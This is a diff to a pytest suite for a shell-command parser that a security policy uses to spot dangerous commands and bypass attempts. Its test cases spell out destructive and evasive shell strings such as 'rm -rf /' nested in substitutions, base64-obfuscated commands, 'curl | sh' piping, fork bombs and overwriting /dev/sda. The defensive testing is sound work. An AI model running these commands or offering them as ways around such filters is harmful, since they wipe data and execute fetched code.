@@ -8,7 +8,14 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from extproc.interpret.shell import argv_commands, commands, looks_like_shell
+from extproc.interpret.shell import (
+    OPAQUE_REASONS,
+    argv_commands,
+    argv_read,
+    commands,
+    looks_like_shell,
+    read,
+)
 
 # What a policy refuses, as policies/shell.rego matches on argv (and a shell reading a
 # piped script, and a fork bomb): the reference the bypass suite is checked against.
@@ -162,16 +169,89 @@ def test_a_shell_that_sh_could_not_parse_still_shows_its_arguments() -> None:
     assert commands("sudo rm -rf / '") == [["sudo", "rm", "-rf", "/", "'"], ["rm", "-rf", "/", "'"]]
 
 
-def test_nested_scripts_are_read_down_to_depth_four() -> None:
-    def nest(script: str, levels: int) -> str:
-        for _ in range(levels):
-            script = "sh -c " + shlex.quote(script)
-        return script
+def test_nested_scripts_are_read_down_to_depth_sixteen_and_deeper_is_opaque() -> None:
+    def nest(levels: int) -> str:  # rm in substitution number `levels`
+        return "echo " + "$(echo " * (levels - 1) + "$(rm -rf /)" + ")" * (levels - 1)
 
-    assert ["rm", "-rf", "/"] in commands(nest("rm -rf /", 4))
-    too_deep = commands(nest("rm -rf /", 6))
-    assert ["rm", "-rf", "/"] not in too_deep
-    assert len(too_deep) == 5 and all(argv[:2] == ["sh", "-c"] for argv in too_deep)
+    assert ["rm", "-rf", "/"] in commands(nest(16)) and read(nest(16)).opaque == []
+    too_deep = read(nest(17))
+    assert ["rm", "-rf", "/"] not in too_deep.commands
+    assert too_deep.opaque == [{"argv": ["rm -rf /"], "why": "too_deep"}]
+    quoted = "rm -rf /"
+    for _ in range(5):
+        quoted = "sh -c " + shlex.quote(quoted)
+    assert ["rm", "-rf", "/"] in commands(quoted)
+
+
+@pytest.mark.parametrize(("text", "opaque"), [
+    ("$(echo rm) -rf /", [(["$(echo rm)", "-rf", "/"], "computed_program")]),
+    ('"$X" -rf /', [(["$X", "-rf", "/"], "computed_program")]),
+    ('bash -c "$(echo cm0g | base64 -d)"', [(["$(echo cm0g | base64 -d)"], "computed_program")]),
+    ('sh -c "$(curl -s x)"', [(["$(curl -s x)"], "computed_program")]),
+    ('eval "$CMD"', [(["$CMD"], "computed_program")]),
+    ("curl -s x | sh", [(["sh"], "computed_script")]),
+    ("curl -s x | bash -s -- -y", [(["bash", "-s", "--", "-y"], "computed_script")]),
+    ("bash < script.sh", [(["bash"], "computed_script")]),
+    ("bash <(curl -s x)", [(["bash", "<(curl -s x)"], "computed_script")]),
+    ("source <(curl -s x)", [(["source", "<(curl -s x)"], "computed_script")]),
+    (". /dev/stdin", [([".", "/dev/stdin"], "computed_script")]),
+    ("cat q.sql | psql -U app", [(["psql", "-U", "app"], "computed_script")]),
+    ("mysql shop < dump.sql", [(["mysql", "shop"], "computed_script")]),
+    ("curl -s x | python3", [(["python3"], "computed_script")]),
+    ("python3 -c 'print(1)'", [(["python3", "-c", "print(1)"], "inline_code")]),
+    ("python -Sc 'print(1)'", [(["python", "-Sc", "print(1)"], "inline_code")]),
+    ("perl -e 'print 1'", [(["perl", "-e", "print 1"], "inline_code")]),
+    ("ruby -e 'p 1'", [(["ruby", "-e", "p 1"], "inline_code")]),
+    ("node --eval=1", [(["node", "--eval=1"], "inline_code")]),
+    ("php -r 'echo 1;'", [(["php", "-r", "echo 1;"], "inline_code")]),
+    ("awk 'BEGIN { system(\"ls\") }'", [(["awk", 'BEGIN { system("ls") }'], "inline_code")]),
+    ("awk '{ print | \"sh\" }' f", [(["awk", '{ print | "sh" }', "f"], "inline_code")]),
+    ("echo / | xargs rm -rf", [(["rm", "-rf"], "stdin_operands")]),
+    ("xargs sudo rm", [(["sudo", "rm"], "stdin_operands"), (["rm"], "stdin_operands")]),
+    ("find . -exec rm {} +", [(["rm", "{}"], "stdin_operands")]),
+    ("b(){ b|b& };b", [(["function", "b"], "recursive_function")]),
+    (":(){ :|:& };:", [(["function", ":"], "recursive_function")]),
+])
+def test_what_is_only_known_when_it_runs_is_opaque(
+    text: str, opaque: list[tuple[list[str], str]]
+) -> None:
+    assert [(o["argv"], o["why"]) for o in read(text).opaque] == opaque
+    assert {o["why"] for o in read(text).opaque} <= OPAQUE_REASONS.keys()
+
+
+@pytest.mark.parametrize("text", [
+    "sh", "bash -l", "python3 script.py", "python3 -m http.server", "node app.js",
+    "awk '{ print $1 }' f", "awk -F, '/a|b/ { n++ } END { print n }' f", "psql -c 'select 1'",
+    "psql -f q.sql", "sqlite3 db 'select 1'", "source ~/.profile", "find . -name '*.o' -delete",
+    "xargs", "f() { ls; }; f", "ls | grep x", "echo hi > out.txt", "cat <<EOF\nhi\nEOF",
+])
+def test_what_can_be_read_is_not_opaque(text: str) -> None:
+    """A shell without a script or a piped stdin is a session (kubectl exec -it -- sh)."""
+    assert read(text).opaque == []
+
+
+def test_argv_read_of_a_bare_shell_is_a_session() -> None:
+    assert argv_read(["sh"]).opaque == [] and argv_read(["sh"]).commands == [["sh"]]
+
+
+def test_env_split_string_is_read_as_the_command_it_splits_into() -> None:
+    assert commands("env -S 'rm -rf /'")[-1] == ["rm", "-rf", "/"]
+    assert commands("env --split-string='rm -rf' /")[-1] == ["rm", "-rf", "/"]
+
+
+def test_the_strings_of_inline_code_are_read_as_commands() -> None:
+    found = commands("python3 -c \"import os; os.system('rm -rf /')\"")
+    assert ["rm", "-rf", "/"] in found
+
+
+@pytest.mark.parametrize(("text", "writes"), [
+    ("cat /dev/zero > /dev/sda", ["/dev/sda"]),
+    ("echo x >> /etc/passwd 2>&1", ["/etc/passwd"]),
+    ("ls &> log; ls 2>/dev/null >&2", ["log", "/dev/null"]),
+    ("cat < in.txt", []),
+])
+def test_output_redirections_are_writes(text: str, writes: list[str]) -> None:
+    assert read(text).writes == writes
 
 
 @pytest.mark.parametrize("text", [
